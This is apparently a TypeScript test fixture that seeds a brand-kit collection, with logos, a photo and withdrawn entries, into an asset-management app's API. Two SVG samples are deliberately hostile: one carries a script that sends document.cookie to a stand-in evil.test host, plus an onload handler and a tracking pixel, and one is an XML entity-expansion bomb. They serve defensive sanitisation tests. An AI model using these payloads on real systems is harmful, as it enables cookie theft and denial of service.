import sharp from 'sharp';
import type { Asset, BrandEntryInput, BrandKit, Collection } from '@stockroom/shared-types';
import { seedUpload } from '../support/seed.ts';
import type { TestServer } from '../support/server.ts';

/** A drawn logo: a gradient, a local <use> and text — what a brand SVG has. */
export const LOGO_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40" width="120" height="40">
  <defs><linearGradient id="brand"><stop offset="0" stop-color="#e4572e"/><stop offset="1" stop-color="#f3a712"/></linearGradient>
  <circle id="dot" cx="20" cy="20" r="14"/></defs>
  <use xlink:href="#dot" fill="url(#brand)"/>
  <rect x="40" y="8" width="72" height="24" rx="4" fill="#29335c"/>
</svg>`;

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
  <script>fetch('https://evil.test/steal?c=' + document.cookie)</script>
  <rect width="10" height="10" fill="#0a0" onload="alert(1)"/>
  <image xlink:href="https://tracker.evil.test/pixel.png" width="10" height="10"/>
</svg>`;

const XML_BOMB_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;</text></svg>`;

/** A photo larger than Figma accepts (5000 × 3000), as JPEG. */
async function bigPhoto(color = { r: 30, g: 120, b: 200 }): Promise<Buffer> {
  return sharp({ create: { width: 5000, height: 3000, channels: 3, background: color } })
    .jpeg({ quality: 70 })
    .toBuffer();
}

export async function api<T>(server: TestServer, method: string, path: string, body?: unknown, token = server.adminToken): Promise<T> {
  const res = await fetch(`${server.url}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const json = (await res.json()) as T & { error?: { code: string; message: string } };
  if (!res.ok)
    throw Object.assign(new Error(`${method} ${path}: ${res.status} ${json.error?.code} ${json.error?.message}`), { status: res.status, body: json });
  return json;
}

async function createAsset(
  server: TestServer,
  collectionId: string,
  file: { bytes: Buffer; fileName: string; mimeType: string; name: string; tags?: string[]; kind?: Asset['kind'] },
): Promise<Asset> {
  const adminId = (await server.stockroom.database.prisma.user.findFirstOrThrow({ where: { role: 'admin' } })).id;
  const upload = await seedUpload(server.stockroom, adminId, { bytes: file.bytes, fileName: file.fileName, mimeType: file.mimeType });
  return api<Asset>(server, 'POST', '/api/assets', {
    uploadId: upload.uploadId,
    name: file.name,
    collectionId,
    tags: file.tags ?? [],
    ...(file.kind ? { kind: file.kind } : {}),
  });
}

export interface BrandFixture {
  collection: Collection;
  logo: Asset;
  logoMono: Asset;
  photo: Asset;
  hostile: Asset;
  bomb: Asset;
  retired: Asset;
  kit: BrandKit;
}

/** A collection "Acme brand" marked as a brand kit: Logos (colour/mono), Photography, and entries that are unsafe or withdrawn. */
export async function createBrandKit(server: TestServer, slug = 'acme-brand'): Promise<BrandFixture> {
  const collection = await api<Collection>(server, 'POST', '/api/collections', { name: 'Acme brand', slug });
  // The brand team files its vector artwork as design assets, photos as images.
  const svg = (name: string, text: string, tags: string[] = []) =>
    createAsset(server, collection.id, {
      bytes: Buffer.from(text),
      fileName: `${name.toLowerCase().replace(/\W+/g, '-')}.svg`,
      mimeType: 'image/svg+xml',
      name,
      tags,
      kind: 'design',
    });
  const logo = await svg('Acme logo', LOGO_SVG, ['logo', 'primary']);
  const logoMono = await svg('Acme logo mono', LOGO_SVG.replace(/#e4572e|#f3a712|#29335c/g, '#000000'), ['logo']);
  const photo = await createAsset(server, collection.id, {
    bytes: await bigPhoto(),
    fileName: 'harbour.jpg',
    mimeType: 'image/jpeg',
    name: 'Harbour at dawn',
    tags: ['photo', 'harbour'],
  });
  const hostile = await svg('Partner badge', HOSTILE_SVG, ['badge']);
  const bomb = await svg('Old seal', XML_BOMB_SVG, ['seal']);
  const retired = await svg('Retired wordmark', LOGO_SVG, ['logo']);
  const entry = (variants: Array<[string, Asset]>, extra: Partial<BrandEntryInput> = {}): BrandEntryInput => ({
    variants: variants.map(([name, a]) => ({ name, assetId: a.id })),
    usageNotes: '',
    ...extra,
  });
  const kit = await api<BrandKit>(server, 'POST', `/api/brand-kits/${collection.id}`, {
    sections: [
      {
        title: 'Logos',
        entries: [
          entry(
            [
              ['colour', logo],
              ['mono', logoMono],
            ],
            { usageNotes: 'Keep clear space of one dot around the logo.' },
          ),
          entry([['colour', retired]], { withdrawn: true, withdrawnReason: 'Replaced by the 2026 logo' }),
          entry([['colour', hostile]]),
          entry([['colour', bomb]]),
        ],
      },
      { title: 'Photography', entries: [entry([['original', photo]], { usageNotes: 'Credit: Acme' })] },
    ],
  });
  return { collection, logo, logoMono, photo, hostile, bomb, retired, kit };
}

/** A kit as `brandKits.save` takes it back: every entry as it is (withdrawn ones stay withdrawn). */
export function kitInput(k: BrandKit) {
  return k.sections.map((s) => ({
    title: s.title,
    entries: s.entries.map((e) => ({
      variants: e.variants.map((v) => ({ name: v.name, assetId: v.assetId })),
      usageNotes: e.usageNotes,
      expiresAt: e.expiresAt,
      withdrawn: e.state === 'withdrawn',
      withdrawnReason: e.withdrawnReason,
    })),
  }));
}
